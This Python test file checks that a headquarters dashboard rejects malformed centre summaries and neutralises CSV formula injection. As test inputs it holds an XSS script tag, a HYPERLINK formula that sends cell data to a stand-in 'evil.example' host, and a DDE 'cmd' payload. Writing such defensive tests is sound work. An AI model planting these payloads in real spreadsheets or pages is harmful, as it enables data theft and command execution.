"""One centre cannot break headquarters (issue 16, items 5 and 9): summaries are validated, CSV cells are text.

The attacks are the intruder's, repeated as written against a real ``huduma-hq
serve`` on PostgreSQL: a summary without ``wait_mean_s``, one with
``"arrived": "x"``, a bad row already in the database, ``=HYPERLINK(...)`` in
centre-supplied text, and a summary naming itself after another centre.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import time

import pytest

from centre_server.contract import summary as schema
from centre_server.sim.daysim import simulate_engine_day
from tests.conftest import artifacts_dir
from tests.hq.conftest import HqProcess
from tests.hq.test_board import send

DAY = "2026-04-06"


def good(cid: str, name: str, day: str = DAY, citizens: int = 25) -> dict:
    return simulate_engine_day(day, centre_id=cid, centre_name=name, citizens=citizens, seed=3)


def test_the_centres_real_summaries_hold_the_schema() -> None:
    """The schema is the shape ``centre_server.reports.figures`` produces: a simulated day through the real engine."""
    data = good("nakuru", "Huduma Centre Nakuru", citizens=40)
    assert schema.problem(data) is None
    assert data["services"] and data["hours"], "the sample day must exercise every part of the schema"
    broken = copy.deepcopy(data)
    del broken["services"][0]["within_target"]
    assert "services.0.within_target" in schema.problem(broken)


def test_a_bad_summary_is_refused_with_the_reason_and_the_board_stays_up(hq: HqProcess) -> None:
    token = hq.add_centre("nakuru", "Huduma Centre Nakuru")
    ok = hq.add_centre("thika", "Huduma Centre Thika")
    thika = good("thika", "Huduma Centre Thika")
    assert send(hq, ok, thika).status_code == 201

    no_wait = good("nakuru", "Huduma Centre Nakuru")
    del no_wait["total"]["wait_mean_s"]
    r = send(hq, token, no_wait)
    assert r.status_code == 422, r.text
    err = r.json()["error"]
    assert err["code"] == "bad_summary" and "total.wait_mean_s" in err["message"]

    bad_arrived = good("nakuru", "Huduma Centre Nakuru")
    bad_arrived["total"]["arrived"] = "x"
    r = send(hq, token, bad_arrived)
    assert r.status_code == 422 and "total.arrived" in r.json()["error"]["message"]

    as_text = good("nakuru", "Huduma Centre Nakuru")
    as_text["total"]["arrived"] = str(as_text["total"]["arrived"])  # "25" is not coerced either
    assert send(hq, token, as_text).status_code == 422

    for path in ("/", "/api/v1/board", "/export.csv"):
        page = hq.client().get(path, params={"date": DAY})
        assert page.status_code == 200, (path, page.text[:300])
    board = hq.client().get("/api/v1/board", params={"date": DAY}).json()
    by_id = {c["id"]: c for c in board["centres"]}
    assert by_id["thika"]["total"] == thika["total"] and by_id["nakuru"]["total"] is None
    assert board["skipped"] == []
    assert hq.client().get("/api/v1/receipts", params={"centre_id": "nakuru"}).json() == []


def _store_raw(hq: HqProcess, cid: str, day: str, data: dict) -> None:
    """A row written behind the API's back (as before validation existed): straight into PostgreSQL."""
    import psycopg

    with psycopg.connect(hq.db_url) as conn:
        conn.execute("INSERT INTO summaries(centre_id, date, revision, key, data, received_at) "
                     "VALUES (%s, %s, 1, %s, %s, %s)", [cid, day, f"{cid}:{day}:1", json.dumps(data), time.time()])


def test_a_bad_row_already_stored_is_skipped_reported_and_logged(hq: HqProcess, browser) -> None:
    ok = hq.add_centre("thika", "Huduma Centre Thika")
    hq.add_centre("nakuru", "Huduma Centre Nakuru")
    hq.add_centre("embu", "Huduma Centre Embu")
    thika = good("thika", "Huduma Centre Thika")
    assert send(hq, ok, thika).status_code == 201
    no_wait = good("nakuru", "Huduma Centre Nakuru")
    del no_wait["total"]["wait_mean_s"]
    _store_raw(hq, "nakuru", DAY, no_wait)
    bad_arrived = good("embu", "Huduma Centre Embu")
    bad_arrived["total"]["arrived"] = "x"
    bad_arrived["services"][0]["name_en"] = "<script>alert(1)</script>"
    _store_raw(hq, "embu", DAY, bad_arrived)

    board = hq.client().get("/api/v1/board", params={"date": DAY})
    assert board.status_code == 200, board.text
    skipped = {k["centre_id"]: k for k in board.json()["skipped"]}
    assert set(skipped) == {"nakuru", "embu"}
    assert "total.wait_mean_s" in skipped["nakuru"]["reason"] and "total.arrived" in skipped["embu"]["reason"]
    by_id = {c["id"]: c for c in board.json()["centres"]}
    assert by_id["thika"]["total"] == thika["total"] and by_id["nakuru"]["total"] is None

    rows = list(csv.DictReader(io.StringIO(hq.client().get("/export.csv", params={"from": DAY, "to": DAY}).text)))
    assert [r["centre_id"] for r in rows] == ["thika"]
    one = hq.client().get(f"/api/v1/summaries/embu/{DAY}")
    assert one.status_code == 200 and "total.arrived" in one.json()["problem"]

    out = artifacts_dir("hq")
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    hq.log_in_browser(page.context)
    try:
        page.goto(f"{hq.url}/?date={DAY}&days=7&lang=en")
        notice = page.locator("#skipped")
        assert "Reports left out" in notice.inner_text()
        assert "Huduma Centre Nakuru" in notice.inner_text() and "total.wait_mean_s" in notice.inner_text()
        assert page.locator('#centres tr[data-centre="thika"]').count() == 1
        page.screenshot(path=str(out / "board-skipped-en.png"), full_page=True)
        page.goto(f"{hq.url}/?date={DAY}&days=7&lang=sw")
        assert "Ripoti zilizoachwa" in page.locator("#skipped").inner_text()
        page.screenshot(path=str(out / "board-skipped-sw.png"), full_page=True)
    finally:
        page.close()
    log = hq.log_path.read_text()
    assert "skipped the stored summary of nakuru" in log and "Traceback" not in log


def test_csv_cells_are_never_formulas_and_centres_have_their_registered_names(hq: HqProcess) -> None:
    token = hq.add_centre("nakuru", "Huduma Centre Nakuru")
    data = good("nakuru", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
    svc = data["services"][0]
    svc["name_en"] = '=HYPERLINK("http://evil.example","Open")'
    svc["name_sw"] = "@SUM(1+1)"
    data["services"][-1]["name_en"] = "\t=1+2"
    data["services"][-1]["name_sw"] = "+cmd|' /C calc'!A0"
    r = send(hq, token, data)
    assert r.status_code == 201, r.text

    for level in ("total", "services", "hours"):
        text = hq.client().get("/export.csv", params={"from": DAY, "to": DAY, "level": level}).text
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 1
        for row in rows[1:]:
            assert row[1] == "Huduma Centre Nakuru"
            for c in row:
                assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), (level, c)
        if level == "services":
            names = {r["service_id"]: r for r in csv.DictReader(io.StringIO(text))}
            first, last = names[svc["service_id"]], names[data["services"][-1]["service_id"]]
            assert first["name_en"] == "'" + svc["name_en"] and first["name_sw"] == "'@SUM(1+1)"
            assert last["name_en"] == "'\t=1+2" and last["name_sw"].startswith("'+cmd")

    board = hq.client().get("/api/v1/board", params={"date": DAY}).json()
    assert {c["name"] for c in board["centres"]} == {"Huduma Centre Nakuru"}
    assert {w["centre_name"] for w in board["worst"]} <= {"Huduma Centre Nakuru"}
    page = hq.client().get("/", params={"date": DAY}).text
    assert "Huduma Centre Nakuru" in page and "evil.example/?" not in page
    assert hq.client().get(f"/api/v1/summaries/nakuru/{DAY}").json()["centre_name"] == "Huduma Centre Nakuru"


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@A1", "\tx", "\rx"])
def test_the_csv_cell_guard(value: str) -> None:
    from hq.board import cell

    assert cell(value) == "'" + value and cell("Huduma") == "Huduma" and cell(-1) == -1
